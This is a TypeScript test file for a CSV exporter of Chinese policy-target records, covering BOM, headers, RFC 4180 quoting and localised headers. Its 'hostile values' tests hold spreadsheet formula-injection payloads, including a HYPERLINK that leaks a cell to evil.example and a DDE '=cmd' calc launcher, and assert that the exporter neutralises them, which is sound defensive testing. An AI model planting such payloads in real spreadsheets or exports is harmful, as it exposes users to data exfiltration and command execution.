import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, toCsv } from '../../../src/export';
import { rec } from '../compare/records';

describe('CSV export', () => {
  it('starts with a UTF-8 BOM, has a header of every spec field but the offsets, plus the sentence, source, reading and clip time, CRLF rows', () => {
    const csv = toCsv([
      {
        record: rec({ indicator: 'urban_new_jobs', label: '城镇新增就业', value: 400000, unit: '人', comparator: '>=', kind: 'target', region: '陕西省', period: '2022', text: '城镇新增就业40万人以上', start: 30, end: 42 }),
        source: { url: 'https://a.example/sx?id=1', title: '陕西省人社厅' },
        clippedAt: Date.UTC(2024, 0, 2, 3, 4, 5),
        sentence: '今年全省城镇新增就业40万人以上。',
        readAt: Date.UTC(2024, 0, 2, 3, 0, 0),
      },
    ]);
    const bytes = new TextEncoder().encode(csv);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = csv.slice(1).split('\r\n');
    expect(lines[0]).toBe(CSV_COLUMNS.join(','));
    expect(lines[0]).toBe('indicator,label,value,max,unit,comparator,kind,masked,region,scope,period,period_type,text,sentence,source_title,source_url,read_at,clipped_at,note');
    expect(lines[1]).toBe('urban_new_jobs,城镇新增就业,400000,,人,>=,target,false,陕西省,province,2022,year,城镇新增就业40万人以上,今年全省城镇新增就业40万人以上。,陕西省人社厅,https://a.example/sx?id=1,2024-01-02T03:00:00.000Z,2024-01-02T03:04:05.000Z,');
    expect(lines[2]).toBe('');
    expect(lines).toHaveLength(3);
  });

  it('quotes fields with commas, quotes and line breaks (RFC 4180), and keeps formulas inert', () => {
    const csv = toCsv([
      {
        record: rec({ indicator: 'other', label: '好评率,满意度', value: null, unit: '%', text: '他说"好"\n下一行' }),
        source: { url: 'https://x/', title: '=HYPERLINK("x")' },
        note: '-注意',
      },
    ]);
    const row = csv.slice(1).split('\r\n')[1]!;
    expect(row).toBe(
      'other,"好评率,满意度",,,%,=,actual,true,,unknown,,unknown,"他说""好""\n下一行",,"\'=HYPERLINK(""x"")",https://x/,,,\'-注意',
    );
  });
});

describe('CSV export of hostile values', () => {
  it('keeps every free-text cell inert — region, period, unit and note too — and the vocabulary as it is', () => {
    const csv = toCsv([
      {
        record: rec({ indicator: 'other', value: 1, region: '=HYPERLINK("http://evil.example/?d="&A1,"详情")', period: '+2023', unit: '=1+1', label: '@SUM(A1)' }),
        source: { url: 'https://x/', title: 't' },
        note: '=cmd|" /C calc"!A0',
      },
    ]);
    const cells = csv.slice(1).split('\r\n')[1]!;
    expect(cells).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""详情"")"`);
    expect(cells).toContain("'+2023");
    expect(cells).toContain("'=1+1");
    expect(cells).toContain("'@SUM(A1)");
    expect(cells).toContain(`"'=cmd|"" /C calc""!A0"`);
    // The comparator column keeps the spec's vocabulary.
    expect(cells.split(',')[5]).toBe('=');
  });

  it('keeps a sentence, a title and a header from a page inert too', () => {
    const csv = toCsv([{ record: rec({ indicator: 'other', value: 1, unit: '人' }), source: { url: 'https://x/', title: '-2+3' }, sentence: '=1+2' }], {
      headers: Object.fromEntries(CSV_COLUMNS.map((c) => [c, c === 'note' ? '=备注' : c])) as Record<(typeof CSV_COLUMNS)[number], string>,
    });
    const [head, row] = csv.slice(1).split('\r\n');
    expect(head!.endsWith(",'=备注")).toBe(true);
    expect(row).toContain("'=1+2");
    expect(row).toContain("'-2+3");
  });
});

describe('CSV for people and for scripts', () => {
  it('writes headers and period types in the UI language when asked, and machine names otherwise', () => {
    const item = { record: rec({ indicator: 'urban_new_jobs', value: 6000000, unit: '人', region: '河南省', period: '2021-2025' }), source: { url: 'https://h/', title: 'h' } };
    const headers = Object.fromEntries(CSV_COLUMNS.map((c) => [c, `列:${c}`])) as Record<(typeof CSV_COLUMNS)[number], string>;
    const people = toCsv([item], { headers, names: { periodType: (t) => `类型:${t}`, scope: (s) => `级别:${s}` } }).slice(1).split('\r\n');
    expect(people[0]!.split(',')[0]).toBe('列:indicator');
    expect(people[1]).toContain('级别:province');
    expect(people[1]).toContain('类型:multi-year');
    const script = toCsv([item]).slice(1).split('\r\n');
    expect(script[0]!.split(',')).not.toContain('start');
    expect(script[1]).toContain(',province,2021-2025,multi-year,');
  });
});
